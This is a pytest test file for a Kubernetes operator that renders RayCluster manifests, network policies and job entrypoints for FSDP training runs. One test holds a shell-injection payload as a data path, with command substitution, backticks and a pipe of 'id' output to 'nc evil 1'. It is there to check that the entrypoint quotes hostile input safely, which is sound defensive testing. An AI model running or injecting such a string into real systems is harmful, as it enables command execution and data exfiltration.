"""RayCluster builder: golden files for several specs, and the properties that matter stated outright."""

from __future__ import annotations

import json
import os
import shlex
from pathlib import Path
from typing import Any

import pytest
import yaml

from fsdp_operator import api, builder, submission
from fsdp_operator.drainwindow import DRAIN_ENV
from fsdp_trainer import cli
from fsdp_trainer.contract import AttemptInfo
from tests.support.manifests import example

GOLDEN = Path(__file__).parent / "golden"
RUN = builder.RunRef(name="run", namespace="team-a", uid="0f1e2d3c-0000-4000-8000-000000000001")
IMAGE = "public.ecr.aws/deep-learning-containers/ray:train-ml-cuda-v1.1"


def example_spec(name: str, **changes: Any) -> api.FSDPTrainingRunSpec:
    return api.FSDPTrainingRunSpec.model_validate(example(name, **changes)["spec"])


CASES = {
    "aws-sample": example_spec("aws-sample"),
    "real-data-finetune": example_spec("real-data-finetune", **{"cluster.queueName": "gpu-queue"}),
    "cpu-demo": example_spec("cpu-demo"),
    "no-efa-p5-selectors": example_spec(
        "aws-sample",
        **{
            "cluster.efaPerWorker": 0,
            "network.efa": "disabled",
            "cluster.instanceType": "p5.48xlarge",
            "cluster.gpusPerWorker": 8,
            "cluster.head": {"nodeSelector": {"pool": "system"}},
            "cluster.serviceAccountName": "trainer",
            "cluster.priorityClassName": "high",
        },
    ),
    "p5-efa-required": example_spec(
        "real-data-finetune", **{"cluster.instanceType": "p5.48xlarge", "cluster.efaPerWorker": 32}
    ),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_golden(case: str) -> None:
    manifest = builder.build_raycluster(CASES[case], RUN, IMAGE, zone="us-west-2a")
    path = GOLDEN / f"raycluster-{case}.yaml"
    rendered = yaml.safe_dump(manifest, sort_keys=False)
    if os.environ.get("UPDATE_GOLDEN"):
        path.write_text(rendered)
    assert path.exists(), f"{path} missing: run with UPDATE_GOLDEN=1"
    assert rendered == path.read_text(), f"{path.name} differs; review, then UPDATE_GOLDEN=1"


def _groups(manifest: dict[str, Any]) -> tuple[dict[str, Any], dict[str, Any]]:
    return manifest["spec"]["headGroupSpec"], manifest["spec"]["workerGroupSpecs"][0]


def test_aws_sample_shape() -> None:
    manifest = builder.build_raycluster(CASES["aws-sample"], RUN, IMAGE, zone="us-west-2b")
    head, workers = _groups(manifest)
    head_pod, worker_pod = head["template"]["spec"], workers["template"]["spec"]
    assert head_pod["containers"][0]["image"] == worker_pod["containers"][0]["image"] == IMAGE
    assert head["rayStartParams"]["num-gpus"] == "0"
    assert "nvidia.com/gpu" not in head_pod["containers"][0]["resources"]["limits"]
    assert workers["replicas"] == workers["minReplicas"] == workers["maxReplicas"] == 2
    resources = worker_pod["containers"][0]["resources"]
    for kind in ("requests", "limits"):
        assert resources[kind]["nvidia.com/gpu"] == "4"
        assert resources[kind]["vpc.amazonaws.com/efa"] == "1"
    assert worker_pod["nodeSelector"] == {
        "node.kubernetes.io/instance-type": "g6.12xlarge",
        "topology.kubernetes.io/zone": "us-west-2b",
    }
    assert {"name": "dshm", "emptyDir": {"medium": "Memory", "sizeLimit": "64Gi"}} in worker_pod["volumes"]
    env = {e["name"]: e.get("value") for e in worker_pod["containers"][0]["env"]}
    assert env["FI_PROVIDER"] == "efa" and env["NCCL_DEBUG"] == "INFO"
    assert "NCCL_NET" not in env  # preferred: fall-back allowed, and reported
    assert "FI_EFA_USE_DEVICE_RDMA" not in env  # g6 has no GPUDirect RDMA
    owner = manifest["metadata"]["ownerReferences"][0]
    assert owner["uid"] == RUN.uid and owner["controller"] is True and owner["kind"] == "FSDPTrainingRun"
    assert manifest["metadata"]["labels"]["fsdp.training.dev/run"] == "run"


def test_efa_required_pins_nccl_to_libfabric_and_p5_gets_gpudirect() -> None:
    worker_pod = _groups(builder.build_raycluster(CASES["p5-efa-required"], RUN, IMAGE, None))[1]
    env = {e["name"]: e.get("value") for e in worker_pod["template"]["spec"]["containers"][0]["env"]}
    assert env["NCCL_NET"] == "Libfabric" and env["FI_EFA_USE_DEVICE_RDMA"] == "1"


def test_without_efa_there_is_no_efa_request_and_no_efa_environment() -> None:
    worker_pod = _groups(builder.build_raycluster(CASES["no-efa-p5-selectors"], RUN, IMAGE, None))[1]
    container = worker_pod["template"]["spec"]["containers"][0]
    assert "vpc.amazonaws.com/efa" not in container["resources"]["limits"]
    drain, auth, node = [DRAIN_ENV], ["RAY_AUTH_MODE", "RAY_AUTH_TOKEN"], ["FSDP_NODE_NAME"]
    assert [e["name"] for e in container["env"]] == drain + auth + node
    without_auth = builder.build_raycluster(CASES["no-efa-p5-selectors"], RUN, IMAGE, None, ray_auth=False)
    without_auth_env = _groups(without_auth)[1]["template"]["spec"]["containers"][0]["env"]
    assert [e["name"] for e in without_auth_env] == drain + node  # no EFA environment either


def test_every_ray_process_takes_the_runs_token_from_the_runs_secret() -> None:
    token = builder.ray_auth_token(b"k" * 32, RUN.namespace, builder.ray_cluster_name(RUN.name))
    secret = builder.build_ray_auth_secret(RUN, token)
    assert (
        secret["stringData"] == {"token": token}
        and secret["metadata"]["ownerReferences"][0]["uid"] == RUN.uid
    )
    reference = {"secretKeyRef": {"name": secret["metadata"]["name"], "key": "token"}}
    for group in _groups(builder.build_raycluster(CASES["aws-sample"], RUN, IMAGE, None)):
        [container] = group["template"]["spec"]["containers"]
        env = {e["name"]: e for e in container["env"]}
        assert env["RAY_AUTH_MODE"]["value"] == "token", container["name"]
        assert env["RAY_AUTH_TOKEN"]["valueFrom"] == reference, container["name"]


def test_ray_tokens_differ_per_cluster_and_key_and_are_stable() -> None:
    key, other_key = b"a" * 32, b"b" * 32
    token = builder.ray_auth_token(key, "team-a", "run-1")
    assert token == builder.ray_auth_token(key, "team-a", "run-1") and len(token) == 64
    others = {
        builder.ray_auth_token(key, "team-b", "run-1"),
        builder.ray_auth_token(key, "team-a", "run-2"),
        builder.ray_auth_token(other_key, "team-a", "run-1"),
    }
    assert token not in others and len(others) == 3


def test_network_policy_admits_the_clusters_own_pods_and_only_the_operator_on_the_dashboard() -> None:
    policy = builder.build_network_policy(
        RUN, "ops", {"app.kubernetes.io/name": "fsdp-operator"}, ["10.0.0.0/16"]
    )
    cluster = {"matchLabels": {"ray.io/cluster": builder.ray_cluster_name(RUN.name)}}
    spec = policy["spec"]
    assert spec["podSelector"] == cluster and spec["policyTypes"] == ["Ingress", "Egress"]
    own, dashboard = spec["ingress"]
    assert own == {"from": [{"podSelector": cluster}]}  # Ray's own traffic, every port
    assert dashboard["ports"] == [{"protocol": "TCP", "port": 8265}]
    assert dashboard["from"] == [
        {
            "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "ops"}},
            "podSelector": {"matchLabels": {"app.kubernetes.io/name": "fsdp-operator"}},
        },
        {"ipBlock": {"cidr": "10.0.0.0/16"}},
    ]
    assert policy["metadata"]["ownerReferences"][0]["uid"] == RUN.uid
    # An operator outside the cluster with no ranges given: nobody else reaches the dashboard.
    assert builder.build_network_policy(RUN, "ops", {}, [])["spec"]["ingress"] == [own]


def test_network_policy_admits_the_platforms_prometheus_to_rays_metrics_port_only() -> None:
    policy = builder.build_network_policy(RUN, "ops", {}, [], ["monitoring"])
    own, scrape = policy["spec"]["ingress"]
    assert own == {"from": [{"podSelector": policy["spec"]["podSelector"]}]}  # the dashboard stays closed
    assert scrape == {
        "from": [
            {
                "namespaceSelector": {
                    "matchExpressions": [
                        {"key": "kubernetes.io/metadata.name", "operator": "In", "values": ["monitoring"]}
                    ]
                }
            }
        ],
        "ports": [{"protocol": "TCP", "port": 8080}],
    }


def test_kueue_queue_label_only_when_set() -> None:
    labelled = builder.build_raycluster(CASES["real-data-finetune"], RUN, IMAGE, None)
    plain = builder.build_raycluster(CASES["aws-sample"], RUN, IMAGE, None)
    assert labelled["metadata"]["labels"]["kueue.x-k8s.io/queue-name"] == "gpu-queue"
    assert "kueue.x-k8s.io/queue-name" not in plain["metadata"]["labels"]


def test_cluster_name_is_deterministic_and_short_enough() -> None:
    long_name = "a-very-long-training-run-name-that-goes-on-and-on-for-ever"
    name = builder.ray_cluster_name(long_name)
    assert name == builder.ray_cluster_name(long_name) and len(name) <= 40
    assert name != builder.ray_cluster_name(long_name + "x")
    assert builder.ray_cluster_name("short") == "short"


def test_the_entrypoint_hands_hostile_strings_to_the_trainer_verbatim() -> None:
    # A local path (an s3:// URI of these characters is refused at admission)
    hostile = "/data/$(touch /tmp/pwned); `id` | nc evil 1 & echo ${HOME} 'q' \"d\".jsonl"
    spec = api.FSDPTrainingRunSpec.model_validate(
        {"model": {"source": "m"}, "checkpoint": {"storagePath": "s3://b/p"}, "data": {"source": hostile}}
    )
    config = submission.trainer_config(spec, RUN, cpu_only=False)
    argv = shlex.split(submission.entrypoint(config, "run-1", AttemptInfo(attempt=1)))
    assert argv[:3] == ["python", "-m", "fsdp_trainer"]
    assert argv[-4:-1] == ["--submission-id", "run-1", "--attempt-info"]
    assert json.loads(argv[4])["data"]["source"] == hostile


def test_secret_env_reaches_head_and_workers_as_references_only() -> None:
    spec = CASES["aws-sample"].model_copy(deep=True)
    spec.runtime_env.secret_env = {"HF_TOKEN": api.SecretKeyRef(name="hf", key="token")}
    reference = {"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": {"name": "hf", "key": "token"}}}
    for group in _groups(builder.build_raycluster(spec, RUN, IMAGE, None)):
        [container] = group["template"]["spec"]["containers"]
        assert reference in container["env"], container["name"]


def test_mlflow_credentials_reach_the_pods_as_secret_references_and_the_trainer_sees_no_secret() -> None:
    spec = CASES["aws-sample"].model_copy(deep=True)
    spec.tracking = api.TrackingSpec.model_validate(
        {
            "mlflow": {
                "trackingUri": "https://mlflow.example.com",
                "experimentName": "qwen-sft",
                "credentials": {"token": {"name": "mlflow", "key": "token"}},
            }
        }
    )
    reference = {
        "name": "MLFLOW_TRACKING_TOKEN",
        "valueFrom": {"secretKeyRef": {"name": "mlflow", "key": "token"}},
    }
    for group in _groups(builder.build_raycluster(spec, RUN, IMAGE, None)):
        [container] = group["template"]["spec"]["containers"]
        assert reference in container["env"], container["name"]
    config = submission.trainer_config(spec, RUN, cpu_only=False)
    assert config.tracking is not None and config.tracking.mlflow is not None
    assert config.tracking.mlflow.tracking_uri == "https://mlflow.example.com"
    assert "credentials" not in config.to_json() and "mlflow" in config.to_json()
    attempt = AttemptInfo(attempt=3, image_digest="repo@sha256:" + "0" * 64, trainer_package_sha256="f" * 64)
    argv = shlex.split(submission.entrypoint(config, "run-3", attempt))
    args = cli.build_parser().parse_args(argv[3:])
    assert args.attempt_info == attempt and cli.resolve_config(args).tracking == config.tracking


def test_the_operators_own_aws_identity_reaches_neither_the_pods_nor_the_job(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # The operator runs with its own role (IRSA sets these in its pod); a run's pods and job get the run's.
    operator_identity = {
        "AWS_ROLE_ARN": "arn:aws:iam::123456789012:role/fsdp-operator",
        "AWS_WEB_IDENTITY_TOKEN_FILE": "/var/run/secrets/eks.amazonaws.com/serviceaccount/token",
        "AWS_ACCESS_KEY_ID": "AKIAOPERATOR",
        "AWS_SECRET_ACCESS_KEY": "operator-secret",
    }
    for name, value in operator_identity.items():
        monkeypatch.setenv(name, value)
    for case, spec in CASES.items():
        config = submission.trainer_config(spec, RUN, cpu_only=False)
        made = json.dumps(
            [
                builder.build_raycluster(spec, RUN, IMAGE, "us-west-2a"),
                submission.runtime_env(spec),
                submission.entrypoint(config, "run-1", AttemptInfo(attempt=1)),
            ]
        )
        leaked = [name for name, value in operator_identity.items() if name in made or value in made]
        assert leaked == [], f"{case}: {leaked}"


def test_an_adapter_run_gets_peft_from_rays_pip_since_the_dlc_has_none() -> None:
    """The DLC bundle has no peft (the stand-in image neither): a LoRA run's job installs the trainer's pin,
    a run that names its own peft keeps it, and a run without an adapter installs nothing."""
    lora = {"fsdp.adapter": {"rank": 8}, "model.source": "Qwen/Qwen2.5-1.5B-Instruct"}
    assert submission.runtime_env(example_spec("aws-sample", **lora))["pip"] == ["peft==0.21.2"]
    own = example_spec("aws-sample", **lora, **{"runtimeEnv.pip": ["PEFT>=0.20", "rich"]})
    assert submission.runtime_env(own)["pip"] == ["PEFT>=0.20", "rich"]
    assert "pip" not in submission.runtime_env(example_spec("aws-sample"))


def test_worker_pods_drain_for_the_window_recorded_and_the_kubelet_waits_past_it() -> None:
    """Ray drains a worker's node for the window the run's status recorded at creation (drainwindow.py), and
    the kubelet's SIGKILL waits for Ray to stop after it. The head keeps Kubernetes' default."""
    head, workers = _groups(builder.build_raycluster(CASES["aws-sample"], RUN, IMAGE, None, drain_seconds=47))
    pod = workers["template"]["spec"]
    env = {e["name"]: e.get("value") for e in pod["containers"][0]["env"]}
    assert env[DRAIN_ENV] == "47" and pod["terminationGracePeriodSeconds"] == 47 + 15
    assert "terminationGracePeriodSeconds" not in head["template"]["spec"]
    # Recorded when the creation was decided, so the running cluster is compared with the window it has.
    default = builder.build_raycluster(CASES["aws-sample"], RUN, IMAGE, None)
    assert builder.cluster_drift(default, default) is None
    assert _groups(default)[1]["template"]["spec"]["terminationGracePeriodSeconds"] == 30 + 15
